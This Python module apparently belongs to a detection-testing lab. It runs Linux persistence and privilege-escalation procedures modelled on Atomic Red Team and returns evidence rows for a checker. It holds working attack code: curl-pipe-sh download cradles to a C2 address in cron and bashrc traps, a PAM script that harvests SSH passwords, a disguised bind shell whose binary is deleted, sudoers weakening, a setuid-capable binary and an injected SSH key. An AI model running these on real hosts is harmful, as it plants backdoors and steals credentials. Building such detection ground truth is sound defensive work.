"""Fourth set of real attacker procedures (the `v4-` scenarios), each modelled on an Atomic Red Team
Linux test (read in redcanaryco/atomic-red-team; the commands are our own, nothing vendored), none
of them used by attacks.py, attacks_v2.py or attacks_v3.py.  Each returns its truth evidence: the
rows of the pack it creates ({query, kind: "added", match}), checked against the collected run by
the builder (fleet_v3.check_evidence_v3).

Only per-host paths are written (hostexec.PER_HOST).  Download cradles name 203.0.113.77
(TEST-NET-3): cron, PAM logins and systemd do not run in the lab, so nothing fetches."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from typing import Any

from diffy_lab import Lab, LabHost

from .attacks import C2, Attack
from .fleet import wait_listening
from .hostexec import sh, spawn
from .noise_v4 import ADMIN_UID, ADMIN_USER

Evidence = dict[str, Any]
LISTEN_PORT = 10050
"""The deleted implant's port: the Zabbix agent's, whose name it borrows."""


def _ev(query: str, **match: str) -> Evidence:
    return {"query": query, "kind": "added", "match": match}


def _sha256(host: LabHost, path: str) -> str:
    return sh(host, f"sha256sum {shlex.quote(path)}").split()[0]


def nobody_login(lab: Lab, host: LabHost, password: str = "nobody") -> list[Evidence]:
    """T1078.003 "Login as nobody (Linux)": the `nobody` system account given a login shell and a
    password (ART runs chsh and usermod; here the same edits are made to the host's passwd/shadow
    with sed, as usermod would also write the machine's shared /var/log)."""
    hashed = sh(host, f"openssl passwd -1 {shlex.quote(password)}").strip()
    sh(
        host,
        r"sed -i 's#^\(nobody:[^:]*:[^:]*:[^:]*:[^:]*:[^:]*:\).*$#\1/bin/bash#' /etc/passwd" + "\n"
        f"sed -i {shlex.quote(f's#^nobody:[^:]*:#nobody:{hashed}:#')} /etc/shadow\n"
        "grep -q '^nobody:.*:/bin/bash$' /etc/passwd\n",
    )
    return [_ev("users", username="nobody", shell="/bin/bash")]


def admin_key(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1098.004 "Modify SSH Authorized Keys", on the cloud image's default user (passwordless sudo
    through cloud-init's sudoers file): the attacker's key appended next to the launch template's."""
    algorithm, key, _ = lab.attacker_key.with_suffix(".pub").read_text().split()[:3]
    path = f"/home/{ADMIN_USER}/.ssh/authorized_keys"
    sh(host, f"echo {shlex.quote(f'{algorithm} {key} deploy@ci-runner-07')} >> {path}")
    return [_ev("authorized_keys", username=ADMIN_USER, key=key)]


def cron_subfolders(lab: Lab, host: LabHost, name: str = "0anacron-refresh") -> list[Evidence]:
    """T1053.003 "Cron - Add script to all cron subfolders": the same fetch-and-run script dropped
    into /etc/cron.hourly and /etc/cron.daily (run-parts runs every executable there)."""
    text = f"#!/bin/sh\n(curl -fsSL http://{C2}/r.sh || wget -qO- http://{C2}/r.sh) | sh >/dev/null 2>&1\n"
    script = ""
    for folder in ("/etc/cron.hourly", "/etc/cron.daily"):
        target = f"{folder}/{name}"
        script += f"mkdir -p {folder} && printf %s {shlex.quote(text)} > {target} && chmod 0755 {target}\n"
    sh(host, script)
    return [
        _ev("boot_persistence", path=f"/etc/cron.hourly/{name}"),
        _ev("boot_persistence", path=f"/etc/cron.daily/{name}"),
    ]


CAP_C = "#include <unistd.h>\nint main(void) { return setuid(0) == 0 ? 0 : 1; }\n"


def cap_binary(lab: Lab, host: LabHost, path: str = "/var/tmp/.font-cache/fc-cache-update") -> list[Evidence]:
    """T1548.001 "Make and modify capabilities of a binary": a program built on the host from C
    source (harmless: it only calls setuid(0) and exits) given ``cap_setuid=ep`` with setcap, so any
    user running it can become root."""
    directory = path.rsplit("/", 1)[0]
    sh(
        host,
        f"mkdir -p {directory} && printf %s {shlex.quote(CAP_C)} > {directory}/c.c\n"
        f"gcc -o {path} {directory}/c.c && rm -f {directory}/c.c && chmod 0755 {path}\n"
        f"setcap cap_setuid=ep {path} && getcap {path} | grep -q cap_setuid\n",
        timeout=60,
    )
    return [_ev("file_capabilities", path=path)]


def sudo_caching(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1548.003 "Unlimited sudo cache timeout" and "Disable tty_tickets for sudo caching": two
    Defaults lines appended to /etc/sudoers, so one sudo authentication lasts forever and is shared
    by every terminal of the user."""
    sh(host, "printf 'Defaults\\ttimestamp_timeout=-1\\nDefaults\\t!tty_tickets\\n' >> /etc/sudoers")
    return [
        _ev("sudoers", source="/etc/sudoers", header="Defaults", rule_details="timestamp_timeout=-1"),
        _ev("sudoers", source="/etc/sudoers", header="Defaults", rule_details="!tty_tickets"),
    ]


def pam_exec_line(
    lab: Lab, host: LabHost, pam: str = "/etc/pam.d/sshd", script: str = "/var/tmp/.ssh-agent-cache/auth.sh"
) -> list[Evidence]:
    """T1556.003 "Malicious PAM rule", done as credential harvesters do it: a first ``auth optional
    pam_exec.so quiet expose_authtok`` line in sshd's PAM stack, handing every password typed at an
    SSH login to a script that appends it to a hidden file (lab sshd runs UsePAM no: nothing runs)."""
    directory = script.rsplit("/", 1)[0]
    body = '#!/bin/sh\nread -r pw\necho "$(date +%s) $PAM_USER $PAM_RHOST $pw" >> ' + directory + "/.db\n"
    line = f"auth optional pam_exec.so quiet expose_authtok {script}"
    sh(
        host,
        f"mkdir -p {directory} && printf %s {shlex.quote(body)} > {script} && chmod 0700 {script}\n"
        f"sed -i {shlex.quote('1i ' + line)} {pam}\n"
        f"head -1 {pam} | grep -q pam_exec.so\n",
    )
    return [_ev("auth_config_files", path=pam, sha256=_sha256(host, pam))]


IMPLANT_PY = """\
import socket, subprocess
srv = socket.create_server(("0.0.0.0", {port}))
while True:
    conn, _ = srv.accept()
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)
"""


def deleted_listener(
    lab: Lab, host: LabHost, port: int = LISTEN_PORT, path: str = "/var/tmp/zabbix_agentd"
) -> list[Evidence]:
    """T1070.004 "Delete a single file", applied to the running implant: a bind shell started from
    a binary named like the Zabbix agent (python3 copied, T1036.003) on the agent's port, and the
    binary then deleted, so nothing is left on disk while the listener keeps running (its process
    runs a deleted executable)."""
    sh(host, f"cp /usr/bin/python3 {path} && chmod 0755 {path}", timeout=60)
    spawn(host, f"env PYTHONHOME=/usr {path} -c {shlex.quote(IMPLANT_PY.format(port=port))}", cwd="/")
    wait_listening(host, {port}, 1)
    sh(host, f"rm -f {path}")
    return [_ev("listening_ports", port=str(port)), _ev("processes", path=path, on_disk="0")]


def user_unit(
    lab: Lab, host: LabHost, name: str = "pulse-sync", payload: str = "/var/tmp/.pulse-cache/pulse-sync"
) -> list[Evidence]:
    """T1543.002 "Create Systemd Service", at user level (systemd.unit(5): ~/.config/systemd/user,
    enabled by a default.target.wants link; started at the user's login, or at boot with lingering)
    for the image's default user, its ExecStart a script in a hidden /var/tmp directory.  No systemd
    runs in the lab: the procedure starts the payload as that user itself (the stand-in for
    `systemctl --user start`)."""
    units = f"/home/{ADMIN_USER}/.config/systemd/user"
    unit = f"{units}/{name}.service"
    directory = payload.rsplit("/", 1)[0]
    text = (
        f"[Unit]\nDescription=PulseAudio sync\n[Service]\nExecStart={payload}\nRestart=always\n"
        "[Install]\nWantedBy=default.target\n"
    )
    sh(
        host,
        f"mkdir -p {directory} {units}/default.target.wants\n"
        f"printf '#!/bin/sh\\nwhile :; do sleep 600; done\\n' > {payload} && chmod 0755 {payload}\n"
        f"chown -R {ADMIN_UID}:{ADMIN_UID} {directory}\n"
        f"printf %s {shlex.quote(text)} > {unit}\n"
        f"ln -sf {unit} {units}/default.target.wants/{name}.service\n"
        f"chown -R {ADMIN_UID}:{ADMIN_UID} /home/{ADMIN_USER}/.config\n",
    )
    spawn(host, f"setpriv --reuid {ADMIN_UID} --regid {ADMIN_UID} --clear-groups {payload}", cwd="/")
    return [
        _ev("boot_persistence", path=unit),
        _ev("systemd_exec_targets", directive="ExecStart", target=payload),
    ]


def trap_bashrc(lab: Lab, host: LabHost, path: str = "/etc/bash.bashrc") -> list[Evidence]:
    """T1546.005 "Trap EXIT" made durable: a ``trap ... EXIT`` line appended to the system-wide
    bash.bashrc, so every interactive bash runs the attacker's fetch-and-run when it exits."""
    line = f"trap '(curl -fsSL http://{C2}/x.sh | sh) >/dev/null 2>&1 &' EXIT"
    sh(host, f"echo {shlex.quote(line)} >> {path}")
    return [_ev("shell_profiles", path=path, sha256=_sha256(host, path))]


PROCEDURES: dict[str, Callable[..., list[Evidence]]] = {
    "nobody_login": nobody_login,
    "admin_key": admin_key,
    "cron_subfolders": cron_subfolders,
    "cap_binary": cap_binary,
    "sudo_caching": sudo_caching,
    "pam_exec_line": pam_exec_line,
    "deleted_listener": deleted_listener,
    "user_unit": user_unit,
    "trap_bashrc": trap_bashrc,
}
LISTENING = {"deleted_listener"}
"""Procedures that leave a listener the builder waits for (params.port, default LISTEN_PORT)."""


def apply(lab: Lab, host: LabHost, attack: Attack) -> list[Evidence]:
    return PROCEDURES[attack.artifact](lab, host, **attack.params)
